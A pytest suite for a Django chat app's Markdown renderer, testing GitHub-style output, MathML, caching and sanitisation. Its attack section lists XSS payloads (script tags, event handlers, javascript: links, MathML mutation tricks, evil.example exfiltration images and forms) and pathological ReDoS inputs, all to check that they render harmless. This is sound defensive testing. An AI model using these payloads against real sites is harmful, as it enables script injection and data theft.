"""Markdown on the server: what people expect of it, and what a stranger cannot do with it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.utils.safestring import SafeString
from django.utils.translation import override
from hypothesis import example, given
from hypothesis import strategies as st

from chat import highlighting, markdown
from chat.markdown import BLOCK_MAX, TEXT_MAX, render

REL = 'target="_blank" rel="noopener noreferrer nofollow ugc"'


def _one_line(text: str) -> str:
    return re.sub(r"\n+", "", render(text))


# --- What it gives -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>"),
        ("a\nb", "<p>ab</p>"),
        ("a  \nb", "<p>a<br>b</p>"),
        ("> said", "<blockquote><p>said</p></blockquote>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("***", "<hr>"),
        ("[a](https://b.c/d)", f'<p><a href="https://b.c/d" {REL}>a</a></p>'),
        ("<https://b.c>", f'<p><a href="https://b.c" {REL}>https://b.c</a></p>'),
        ("<me@b.c>", f'<p><a href="mailto:me@b.c" {REL}>me@b.c</a></p>'),
        ("see https://b.c/(d).", f'<p>see <a href="https://b.c/(d)" {REL}>https://b.c/(d)</a>.</p>'),
        ("(www.b.c)", f'<p>(<a href="https://www.b.c" {REL}>www.b.c</a>)</p>'),
        ("`https://b.c`", "<p><code>https://b.c</code></p>"),
        ("[https://b.c](https://d.e)", f'<p><a href="https://d.e" {REL}>https://b.c</a></p>'),
        ("Straße & <b>", "<p>Straße &amp; &lt;b&gt;</p>"),
    ],
)
def test_markdown_reads_as_on_github(written: str, shown: str) -> None:
    assert _one_line(written) == shown


def test_a_table_can_be_scrolled_and_keeps_its_alignment() -> None:
    html = _one_line("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |")
    assert html.startswith('<div class="table-scroll" tabindex="0" role="group" aria-label="Table"><table><thead>')
    assert '<th>a</th><th class="align-right">b</th><th class="align-center">c</th>' in html
    assert '<td>1</td><td class="align-right">2</td><td class="align-center">3</td>' in html


def test_a_task_list_shows_what_is_done() -> None:
    html = render("- [x] one\n- [ ] two\n- three")
    boxes = [set(re.findall(r'[\w-]+="[^"]*"', box)) for box in re.findall(r'<li class="task"><input (.*?)>', html)]
    every = {'type="checkbox"', 'disabled=""'}
    assert boxes == [every | {'checked=""', 'aria-label="Done"'}, every | {'aria-label="To do"'}]
    assert html.count("<li") == 3


def test_labels_speak_the_readers_language() -> None:
    with override("en"):
        english = render("| a |\n|---|")
    assert 'aria-label="Table"' in english


def test_headings_stay_below_the_pages_and_leave_out_no_level() -> None:
    html = render("## A\n\n#### B\n\n###### C\n\n# D\n\nE\n---\n")
    assert re.findall(r"<h(\d)>", html) == ["3", "4", "5", "3", "4"]


def test_code_has_its_language_and_colours() -> None:
    html = _one_line("```py\ndef f(): pass\n```")
    assert '<figcaption class="code__head"><span class="code__language">Python</span></figcaption>' in html
    assert '<pre tabindex="0"><code class="highlight"><span class="k">def</span>' in html


@pytest.mark.parametrize("language", ["mermaid", "klingon", "text"])
def test_code_in_an_unknown_language_is_shown_as_it_is(language: str) -> None:
    html = render(f"```{language}\na --> b\n```")
    assert f'<span class="code__language">{language}</span>' in html
    assert "a --&gt; b" in html


def test_every_language_that_is_named_has_a_highlighter() -> None:
    assert all(highlighting.lexer_of(name) for name in (*highlighting.LANGUAGES, *highlighting._MORE_ALIASES))


def test_code_that_is_not_closed_is_code_to_the_end() -> None:
    assert '<span class="mi">1</span>' in render("```python\nx = 1")


# --- Money and mathematics -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "$5 and $6",
        "It costs $5, $6 or $7.",
        "from $5-$6 to $7/$8",
        "$5 (that is US$)",
        "$1.5M in cash and 2$",
        "a $ b $ c",
        "$HOME/bin:$PATH",
        "US$5 and AU$6",
        r"\$x\$",
        "$`a`$",
        "$$",
        "$",
        "$$$$",
        r"\( \)",
        r"\[\]",
        r"\(x",
    ],
)
def test_a_dollar_is_money_until_it_is_surely_mathematics(text: str) -> None:
    assert "<math" not in render(text)


@pytest.mark.parametrize(
    ("text", "formulas", "display"),
    [
        ("$x^2$", 1, "inline"),
        ("the $n$-th of $m$, for $5 each", 2, "inline"),
        ("$5x + 3 = y$", 1, "inline"),
        ("$5$", 1, "inline"),
        (r"\(a\) or \(b\)", 2, "inline"),
        ("so $$e = mc^2$$ holds", 1, "block"),
        ("$$\na\n- b\n= c\n$$", 1, "block"),
        ("\\[\na\n\\]\n\\[ b \\]", 2, "block"),
        ("- item\n  $$\n  a\n  $$", 1, "block"),
        ("> $$\n> a\n> $$", 1, "block"),
        (r"$$\begin{aligned} a &= b \\ c &= d \end{aligned}$$", 1, "block"),
    ],
)
def test_mathematics_is_written_as_mathml(text: str, formulas: int, display: str) -> None:
    html = render(text)
    assert html.count(f'<math display="{display}">') == formulas
    assert html.count("<math") == formulas


def test_aligned_equations_are_a_table_without_numbers() -> None:
    html = render("$$\n\\begin{aligned}\na &= b \\\\\nc &= d\n\\end{aligned}\n$$")
    assert html.count("<mtr>") == 2
    assert "(1)" not in html and "&amp;" not in html


def test_quote_marks_are_no_part_of_a_formula() -> None:
    assert "&gt;" not in render("> $$\n> a\n> + b\n> $$")


@pytest.mark.parametrize("latex", [r"\frac{", "x_", "{" * 300, r"\newcommand{\a}{\a\a}\a", "x" * 3000])
def test_a_formula_that_cannot_be_read_is_shown_as_written(latex: str) -> None:
    html = render(f"$${latex}$$")
    assert "<math" not in html
    assert latex[:20] in html


def test_words_in_a_formula_are_words() -> None:
    html = render(r"$\text{a <b onclick=x>}$")
    assert "&lt;b" in html and "<b" not in html


# --- What nobody can do with it ------------------------------------------------------------------------

FORBIDDEN_TAGS = set("script style iframe object embed form button link meta base img svg video audio source".split())


class _Auditor(HTMLParser):
    """Fails on the first thing that could run, load or shadow."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name not in {"id", "name", "style", "src", "srcset", "action", "formaction", "xlink:href"}, name
            if name == "href":
                assert tag == "a"
                assert re.match(r"(https?://|mailto:)", (value or "").lower()), value


def _audit(html: str) -> None:
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()


ATTACKS = r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<a href="javascript:alert(1)">x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](&#106;avascript:alert(1))
[x](java&Tab;script:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)
[x](//evil.example/) [x](/accounts/logout/) [x](#id) [x](?a=b)
[x]: javascript:alert(1)
<javascript:alert(1)>
![x](https://evil.example/?q=secret)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x" onerror="alert(1)](https://e.example/x.png "t" onload="x")
[![x](https://evil.example/x.png)](https://b.c)
[a](https://b.c "x" onmouseover="alert(1)")
[a](https://b.c/"onmouseover="alert(1))
https://b.c/"onmouseover="alert(1)
`<img src=x onerror=alert(1)>`
```<img src=x onerror=alert(1)>
```
```html
<script>alert(1)</script></code></pre><script>alert(1)</script>
```
``` "onclick="alert(1)
```
| <img src=x onerror=alert(1)> |
|---|
$\href{javascript:alert(1)}{x}$
$\style{background:url(https://evil.example)}{x}$
$\class{code}{x}$ $\cssId{x}{y}$
$\text{</mtext><script>alert(1)</script>}$
$\text{<img src=x onerror=alert(1)>}$
$$\mbox{</math><img src=x onerror=alert(1)>}$$
$\color{red"onclick="alert(1)}{x}$
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
- [x] <input onfocus=alert(1) autofocus>
<form action=https://evil.example><button>x</button></form>
<style>@import url(https://evil.example)</style>
<div id=cookie name=body style="background:url(https://evil.example)">
<!--><script>alert(1)</script>-->
<base href=https://evil.example><meta http-equiv=refresh content=0>
""".strip().splitlines()


@pytest.mark.parametrize("attack", [*ATTACKS, "\n".join(ATTACKS)])
def test_known_attacks_are_words(attack: str) -> None:
    html = render(attack)
    _audit(html)
    assert "<script" not in html


FRAGMENTS = [
    *ATTACKS,
    *"*_`~[]()<>!#|$\\&;:\"'\n \t{}=-+.".split(" "),
    "```",
    "$$",
    "\\(",
    "\\[",
    "\\]",
    "\\)",
    "- [x] ",
]
FRAGMENTS += [
    "\n\n",
    "    ",
    "> ",
    "1. ",
    "|---|\n",
    "javascript:",
    "https://a.b/",
    "\\text{",
    "\x00",
    "\ud800",
    "\u202e",
    "&#x3c;",
]


@given(st.one_of(st.text(), st.lists(st.sampled_from(FRAGMENTS), max_size=12).map("".join)))
@example("\\[" * 5 + "\\]")
@example("- $$\na\n$$")
@example("|\\\\|\n-|-")
def test_nothing_runs_loads_or_shadows_whatever_is_written(text: str) -> None:
    _audit(render(text))


@given(st.text(alphabet=st.characters(exclude_categories=["C", "Z", "P", "S"]), min_size=1))
def test_plain_words_come_through_unchanged(word: str) -> None:
    assert word in render(word)


def test_an_image_is_a_link_and_loads_nothing() -> None:
    assert (
        _one_line("![a cat](https://b.c/cat.png)")
        == f'<p><a class="image" href="https://b.c/cat.png" {REL}>a cat</a></p>'
    )


# --- Hostile sizes ---------------------------------------------------------------------------------------

PATHOLOGICAL = [
    *(
        "[",
        "![",
        "[a](",
        "[[a]",
        "*",
        "**a ",
        "_a ",
        "`",
        "``a ",
        "<",
        "<a ",
        "&",
        "$",
        "$a",
        "$$\n",
        "\\(",
        "\\[\n",
        "\\[\n\\] x\n",
    ),
    *(
        "> ",
        "- ",
        "- a\n > b\n",
        "|",
        "a|b\n-|-\n",
        "--|--\n",
        "# ",
        "~",
        "~~a ",
        "http://a",
        "https://((",
        "a)" * 2,
        "\\",
        "\t",
    ),
]


@pytest.mark.parametrize("piece", PATHOLOGICAL)
def test_hostile_markdown_cannot_hold_up_a_page(piece: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Either it is rendered or the budget ends it; the text is there in both cases."""
    monkeypatch.setattr(markdown, "TEXT_BUDGET_S", 0.5)
    html = render(piece * (24_000 // len(piece)) + "\n\nthe end")
    _audit(html)
    assert "the end" in html


@pytest.mark.parametrize(
    ("language", "piece"), [("c", " \n"), ("java", "aa "), ("makefile", "a"), ("console", "a:"), ("ini", ": ")]
)
def test_hostile_code_loses_its_colours_only(language: str, piece: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(highlighting, "CODE_BUDGET_S", 0.1)
    code = piece * (30_000 // len(piece)) + "<end>"
    html = render(f"```{language}\n{code}\n```")
    assert "&lt;end&gt;" in html
    assert "<span class=" not in html.partition("<pre>")[2]


def test_a_budget_that_is_used_up_gives_plain_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "TEXT_BUDGET_S", -1.0)
    assert render("**late** <b>") == '<pre class="plain">**late** &lt;b&gt;</pre>\n'


def test_a_block_over_the_limit_is_plain_and_the_rest_is_not() -> None:
    html = render(f"*a*\n\n{'*b* ' * (BLOCK_MAX // 4 + 1)}\n\n*c*")
    assert html.startswith('<p><em>a</em></p>\n<pre class="plain">*b* ')
    assert html.endswith("<p><em>c</em></p>\n")
    assert "<em>b</em>" not in html


def test_a_text_over_the_limit_is_plain() -> None:
    assert render("*a* " * (TEXT_MAX // 4 + 1)).startswith('<pre class="plain">*a* ')


def test_what_the_renderer_trips_over_is_shown_as_it_was_written(monkeypatch: pytest.MonkeyPatch) -> None:
    def trip() -> None:
        raise RuntimeError("tripped")

    monkeypatch.setattr(markdown, "_parser", trip)
    assert render("*tripped over* <b>") == '<pre class="plain">*tripped over* &lt;b&gt;</pre>\n'


# --- Once ------------------------------------------------------------------------------------------------


def test_the_same_text_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    first = render("rendered *once*")
    monkeypatch.setattr(markdown, "_rendered", lambda text: pytest.fail("rendered again"))
    assert render("rendered *once*") is first


def test_the_cache_forgets_what_was_used_least(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "CACHE_MAX", 800)
    cache = markdown._Cache()
    for number in range(20):
        cache.put(bytes([number]), SafeString("x" * 90))
        cache.get(b"\0")
    kept = [number for number in range(20) if cache.get(bytes([number]))]
    assert kept == [0, *range(13, 20)]


def test_only_one_place_makes_html_safe() -> None:
    """`mark_safe` and `|safe` elsewhere would be a second door. (Help texts of form fields are Django's own HTML.)"""
    root = Path(markdown.__file__).parent.parent
    found = {
        path.relative_to(root).as_posix()
        for folder in ("accounts", "api", "artifacts", "billing", "chat", "config", "providers", "templates")
        for path in (root / folder).rglob("*")
        if path.suffix in {".py", ".html"} and re.search(r"mark_safe\(|\|\s*safe\b|autoescape off", path.read_text())
    }
    assert found - {"templates/allauth/elements/fields.html"} == {"chat/sanitizer.py"}


def test_a_heading_that_says_nothing_is_none() -> None:
    assert "<h" not in _one_line("text\n\n## ")


def test_thousands_of_code_blocks_are_laid_out_plainly() -> None:
    html = markdown.render("```\na\n```\n" * 1000)
    assert html.count("<figure") == markdown.DRESSED_MAX
    assert html.count("<pre") == 1000
